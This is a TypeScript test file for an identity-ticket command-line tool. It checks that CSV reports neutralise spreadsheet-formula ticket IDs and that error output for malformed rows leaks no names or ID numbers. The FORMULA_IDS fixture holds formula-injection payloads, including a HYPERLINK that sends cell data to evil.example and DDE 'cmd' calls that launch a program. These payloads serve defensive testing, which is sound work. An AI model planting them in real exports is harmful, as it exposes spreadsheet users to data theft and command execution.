/**
 * The command line given hostile files, as an operator runs it (a child process on the Redis
 * prefix of an in-process orchestrator): TicketIds that are spreadsheet formulas come back from
 * `report --out x.csv` as quoted text, and broken CSV and JSONL rows are reported by line and
 * column without repeating the names and ID numbers they hold, on stdout, stderr or in
 * `<file>.invalid.jsonl`.
 */
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { smallJpeg } from '../support/images.js';
import { runCliProcess, type CliRun } from '../support/cli-process.js';
import { startTestOrchestrator, type TestOrchestrator } from '../support/orchestrator.js';

const NAME = '李三';
const ID = '11010519491231002X';
const OTHER_NAME = '王五';
const OTHER_ID = '372321199103099416';
const HEADER = 'TicketId,Name,IdentificationNumber,FacePic';
const FORMULA_IDS = [
  '=HYPERLINK("https://evil.example/?d="&A1,"open")',
  '@SUM(1+1)*cmd|"/C,calc"!A0',
  '+1+2',
  '-2+3',
  "=cmd|'/C,calc'!A0",
];

let o: TestOrchestrator;
let dir: string;

function cli(...args: string[]): Promise<CliRun> {
  return runCliProcess(o.env, args);
}

/** Whether `text` repeats six or more consecutive characters of `secret`. */
function leaks(text: string, secret: string): boolean {
  for (let i = 0; i + 6 <= secret.length; i++) {
    if (text.includes(secret.slice(i, i + 6))) return true;
  }
  return false;
}

/** Everything a run showed or left behind holds none of the names and ID numbers. */
async function expectNoPersonalData(run: CliRun, file: string): Promise<void> {
  const log = existsSync(`${file}.invalid.jsonl`)
    ? await readFile(`${file}.invalid.jsonl`, 'utf8')
    : '';
  for (const [where, text] of Object.entries({ stdout: run.stdout, stderr: run.stderr, log })) {
    for (const name of [NAME, OTHER_NAME]) expect(text, where).not.toContain(name);
    for (const id of [ID, OTHER_ID]) expect(leaks(text, id), `${where}: ${text}`).toBe(false);
  }
}

beforeAll(async () => {
  o = await startTestOrchestrator({ workers: false });
  dir = await mkdtemp(join(tmpdir(), 'cli-hostile-'));
  await mkdir(join(dir, 'faces'));
  await writeFile(join(dir, 'faces/a.jpg'), await smallJpeg('#8a6b4e'));
}, 30_000);

afterAll(async () => {
  await o?.close();
  if (dir) await rm(dir, { recursive: true, force: true });
});

describe('report --out x.csv', () => {
  it('writes TicketIds that are formulas as quoted text, and the JSONL report as they are', async () => {
    const file = join(dir, 'formulas.jsonl');
    const lines = FORMULA_IDS.map((TicketId) =>
      JSON.stringify({
        TicketId,
        Binding: { Name: NAME, IdentificationNumber: ID, FacePic: 'faces/a.jpg' },
      }),
    );
    await writeFile(file, `${lines.join('\n')}\n`);
    const enqueued = await cli('enqueue', file, '--biz', 'RPMin', '--batch', 'formulas', '--yes');
    expect(enqueued.code, enqueued.stderr).toBe(0);
    expect(enqueued.stdout).toContain(
      `Enqueued ${FORMULA_IDS.length} tickets into batch formulas.`,
    );

    const out = join(dir, 'formulas.csv');
    const r = await cli('report', '--batch', 'formulas', '--out', out);
    expect(r.code, r.stderr).toBe(0);
    const text = await readFile(out, 'utf8');
    const rows = parse<Record<string, string>>(text, { columns: true });
    expect(rows.map((row) => row.TicketId).sort()).toEqual(
      FORMULA_IDS.map((id) => `'${id}`).sort(),
    );
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    }
    for (const line of text.split('\n')) expect(line).not.toMatch(/(^|,)[=+\-@]/);

    const jsonl = join(dir, 'formulas.jsonl.out.jsonl');
    expect((await cli('report', '--batch', 'formulas', '--out', jsonl)).code).toBe(0);
    const ids = (await readFile(jsonl, 'utf8'))
      .trim()
      .split('\n')
      .map((l) => (JSON.parse(l) as { TicketId: string }).TicketId);
    expect(ids.sort()).toEqual([...FORMULA_IDS].sort());
  }, 60_000);
});

describe('enqueue reports broken rows without their personal data', () => {
  it('a stray quote in a CSV row after a name or an ID number: exit 2, by line and field', async () => {
    const files = {
      'after-name.csv': `${HEADER}\nok-1,${OTHER_NAME},${OTHER_ID},faces/a.jpg\nc-1,${NAME}"x",${ID},faces/a.jpg\n`,
      'after-id.csv': `${HEADER}\nc-2,${NAME},${ID}"",faces/a.jpg\n`,
      'closing.csv': `${HEADER}\nc-3,"${NAME}"${ID},faces/a.jpg\n`,
    };
    const runs = await Promise.all(
      Object.entries(files).map(async ([name, content]) => {
        const file = join(dir, name);
        await writeFile(file, content);
        return { file, run: await cli('enqueue', file, '--biz', 'RPMin', '--dry-run') };
      }),
    );
    for (const { file, run } of runs) {
      expect(run.code, run.stderr).toBe(2);
      expect(run.stderr).toMatch(
        /not valid CSV at line \d+, field \d+ \((INVALID_OPENING_QUOTE|CSV_INVALID_CLOSING_QUOTE)\)/,
      );
      await expectNoPersonalData(run, file);
    }
  }, 60_000);

  it('a broken JSONL line holding an ID number and a name: reported by line and column', async () => {
    const file = join(dir, 'broken.jsonl');
    const good = JSON.stringify({
      TicketId: 'j-1',
      Binding: { Name: OTHER_NAME, IdentificationNumber: OTHER_ID, FacePic: 'faces/a.jpg' },
    });
    const broken = [
      `{"TicketId":"j-2","Binding":{"Name":${NAME},"IdentificationNumber":"${ID}"}}`,
      `{"x":["${ID}",${NAME}]}`,
      `{"TicketId":"j-4","Binding":{"IdentificationNumber":"${ID}"`,
    ];
    await writeFile(file, [good, ...broken].join('\n'));
    const r = await cli('enqueue', file, '--biz', 'RPMin', '--dry-run');
    expect(r.code, r.stderr).toBe(3);
    expect(r.stdout).toContain(
      `line 2: row: not valid JSON (column ${broken[0]!.indexOf(NAME) + 1})`,
    );
    expect(r.stdout).toContain(
      `line 3: row: not valid JSON (column ${broken[1]!.indexOf(NAME) + 1})`,
    );
    expect(r.stdout).toContain(`line 4: row: not valid JSON (column ${broken[2]!.length + 1})`);
    const log = (await readFile(`${file}.invalid.jsonl`, 'utf8')).trim().split('\n');
    expect(log).toHaveLength(3);
    await expectNoPersonalData(r, file);
  }, 30_000);

  it('a shifted column and a file without a header: no name or ID number in the plan, the log or stderr', async () => {
    const shifted = join(dir, 'shifted.csv');
    await writeFile(
      shifted,
      [
        'TicketId,Biz,Name,IdentificationNumber,FacePic',
        `s-1,${ID},${NAME},${ID},faces/a.jpg`,
        `${OTHER_NAME},RPMin,${OTHER_ID},${OTHER_NAME},faces/a.jpg`,
      ].join('\n'),
    );
    const r = await cli('enqueue', shifted, '--dry-run');
    expect(r.code, r.stderr).toBe(3);
    expect(r.stdout).toContain(
      'line 2: Biz: is not a configured Biz (configured: RPMin, RPBasic, RPH5BioOnly)',
    );
    expect(r.stdout).toContain('line 3: TicketId: printable ASCII without spaces');
    const log = (await readFile(`${shifted}.invalid.jsonl`, 'utf8'))
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { ticketId?: string });
    expect(log.map((row) => row.ticketId)).toEqual(['s-1', undefined]);
    await expectNoPersonalData(r, shifted);

    const headless = join(dir, 'headless.csv');
    await writeFile(headless, `c-9,${NAME},${ID},faces/a.jpg\n`);
    const h = await cli('enqueue', headless, '--biz', 'RPMin', '--dry-run');
    expect(h.code).toBe(2);
    expect(h.stderr).toContain('the first row is not a header row');
    await expectNoPersonalData(h, headless);
  }, 30_000);
});
